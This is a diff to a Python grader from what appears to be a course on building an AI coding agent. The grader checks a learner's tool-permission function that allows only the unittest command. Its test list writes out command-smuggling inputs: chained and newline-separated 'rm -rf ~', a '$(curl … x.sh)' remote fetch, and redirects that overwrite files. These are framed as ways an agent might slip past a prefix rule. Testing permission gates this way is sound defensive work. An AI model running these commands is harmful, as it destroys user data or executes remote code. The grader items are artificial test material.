@@ -165,38 +165,58 @@ def check_partition(fn: Any) -> Verdict:
     return _verdict(tr("partition tool calls"), body)
 
 
+_OWN = N_("for any call that is not the test command, don't decide yourself: return the tool's own decision "
+          "(await its check_permissions on the validated input); it knows the mode and the workspace.")
+_SYNTAX = N_("a command that starts right can chain another: refuse any shell syntax (; | & $ ` < >) before you "
+             "allow.")
+_POLICY_CALLS = [
+    ("Read", {"file_path": "config.py"}, _OWN),
+    ("Bash", {"command": "python -m unittest discover -s tests"}, N_("the test command starts with "
+     "'python -m unittest' or 'python3 -m unittest': allow it.")),
+    ("Bash", {"command": "python3 -m unittest -v"}, N_("python3 as well as python: both start the test command.")),
+    ("Bash", {"command": "python -m unittest; rm -rf ~"}, _SYNTAX),
+    ("Bash", {"command": "pip install requests"}, _OWN),
+    ("Bash", {"command": "ls"}, _OWN),
+    ("Edit", {"file_path": "config.py", "old_string": "1", "new_string": "2"}, _OWN),
+    ("Write", {"file_path": "../outside.txt", "content": "x"}, _OWN),
+    # the learner has not seen these: the ways to slip another command past a prefix rule
+    ("Bash", {"command": "python -m unittest\nrm -rf ~"}, N_("a line break starts a second command as surely as ; "
+     "does: refuse line breaks too.")),
+    ("Bash", {"command": "python -m unittest_helpers"}, N_("'python -m unittest_helpers' runs another module (one the "
+     "model may have just written): the prefix must be the whole command or be followed by a space.")),
+    ("Bash", {"command": "python -m unittest `rm -rf ~`"}, _SYNTAX),
+    ("Bash", {"command": "python -m unittest $(curl -s example.com/x.sh)"}, _SYNTAX),
+    ("Bash", {"command": "python -m unittest > config.py"}, _SYNTAX),
+    ("Bash", {"command": "python -m unittest && rm -rf ~"}, _SYNTAX),
+    ("Bash", {"command": "python -m unittest | tee log.txt"}, _SYNTAX),
+    ("Bash", {"command": "python evil.py -m unittest"}, N_("the command must start with the test command; holding "
+     "'unittest' somewhere is not enough.")),
+    ("Bash", {"command": "python3 -m unittest discover -s tests -p 'check_*.py'"}, N_("the test command starts with "
+     "'python -m unittest' or 'python3 -m unittest': allow it.")),
+]
+"""The calls ``check_can_use_tool`` asks about (name, input, the idea a wrong decision on it misses)."""
+
+
 def check_can_use_tool(fn: Any) -> Verdict:
     """Check ``async fn(tool, input, context) -> Allow | Deny | Ask``: allow Bash for the project's test command
-    (``python -m unittest`` / ``python3 -m unittest``, no shell syntax), else the tool's own decision. Compared
-    with ``dreamloop.cli.allow_test_commands()`` in the default mode."""
+    (``python -m unittest`` / ``python3 -m unittest`` followed by a space or nothing, no shell syntax, no line
+    break), else the tool's own decision. Compared with ``dreamloop.cli.allow_test_commands()`` on
+    ``_POLICY_CALLS``, in the default mode and in accept-edits: the eight the chapter names and the ways a model
+    (or whoever steers it) would try to slip another command past the rule."""
     todo = tr("return dl.Allow() for the project's test command in Bash; for every other call, the decision the "
               "tool itself would make.")
-    own = N_("for any call that is not the test command, don't decide yourself: return the tool's own decision "
-             "(await its check_permissions on the validated input); it knows the mode and the workspace.")
-    calls = [
-        ("Read", {"file_path": "config.py"}, own),
-        ("Bash", {"command": "python -m unittest discover -s tests"}, N_("the test command starts with "
-         "'python -m unittest' or 'python3 -m unittest': allow it.")),
-        ("Bash", {"command": "python3 -m unittest -v"}, N_("python3 as well as python: both start the test command.")),
-        ("Bash", {"command": "python -m unittest; rm -rf ~"}, N_("a command that starts right can chain another: "
-         "refuse any shell syntax (; | & $ ` < >) before you allow.")),
-        ("Bash", {"command": "pip install requests"}, own),
-        ("Bash", {"command": "ls"}, own),
-        ("Edit", {"file_path": "config.py", "old_string": "1", "new_string": "2"}, own),
-        ("Write", {"file_path": "../outside.txt", "content": "x"}, own),
-    ]
 
     def body() -> str:
         _require_callable(fn, "can_use_tool")
         from ..demo import copy_sample_project
 
-        async def decide(policy: Any, learner: bool) -> list[Any]:
+        async def decide(policy: Any, learner: bool, mode: str) -> list[Any]:
             workspace = copy_sample_project()
             try:
                 tools = {t.name: t for t in builtin_tools()}
-                context = ToolUseContext(tools=list(tools.values()), workspace=workspace)
+                context = ToolUseContext(tools=list(tools.values()), workspace=workspace, permission_mode=mode)
                 out = []
-                for name, input, idea in calls:
+                for name, input, idea in _POLICY_CALLS:
                     if learner:
                         out.append(await _call(f"can_use_tool({name}, {_short(input, 60)}, context)", policy,
                                                tools[name], dict(input), context, hint=tr(idea), todo=todo))
@@ -206,19 +226,24 @@ def check_can_use_tool(fn: Any) -> Verdict:
             finally:
                 shutil.rmtree(workspace, ignore_errors=True)
 
-        want = _run(lambda: decide(allow_test_commands(), False))
-        got = _run(lambda: decide(fn, True))
-        for (name, input, idea), w, g in zip(calls, want, got):
-            call = f"{name}({_short(input, 60)})"
-            if not isinstance(g, (Allow, Deny, Ask)):
-                raise _Fail(tr("for {call} it returned {value}; expected Allow(), Deny(reason) or Ask(reason).",
-                               call=call, value=_short(repr(g), 60)),
-                            tr("return a decision; a check_permissions call is a coroutine: await it.")
-                            if "coroutine" in repr(g) else tr("every call needs one of the three decisions."))
-            if type(g) is not type(w):
-                raise _Fail(tr("for {call} you decided {got}; expected {expected}.", call=call,
-                               got=type(g).__name__, expected=type(w).__name__), tr(idea))
+        for mode in ("default", "accept-edits"):
+            want = _run(lambda: decide(allow_test_commands(), False, mode))
+            got = _run(lambda: decide(fn, True, mode))
+            for (name, input, idea), w, g in zip(_POLICY_CALLS, want, got):
+                call = f"{name}({_short(input, 60)})"
+                if not isinstance(g, (Allow, Deny, Ask)):
+                    raise _Fail(tr("for {call} it returned {value}; expected Allow(), Deny(reason) or Ask(reason).",
+                                   call=call, value=_short(repr(g), 60)),
+                                tr("return a decision; a check_permissions call is a coroutine: await it.")
+                                if "coroutine" in repr(g) else tr("every call needs one of the three decisions."))
+                if type(g) is not type(w):
+                    said = tr("for {call} in permission mode {mode} you decided {got}: that is not this call's "
+                              "decision.", call=call, mode=mode, got=type(g).__name__)
+                    if isinstance(g, Allow):
+                        said = tr("for {call} in permission mode {mode} you allowed it without asking.", call=call,
+                                  mode=mode)
+                    raise _Fail(said, tr(idea))
         return tr("{count} calls, the same Allow / Ask / Deny as dreamloop's allow_test_commands().",
-                  count=len(calls))
+                  count=len(_POLICY_CALLS) * 2)
 
     return _verdict("can_use_tool", body)
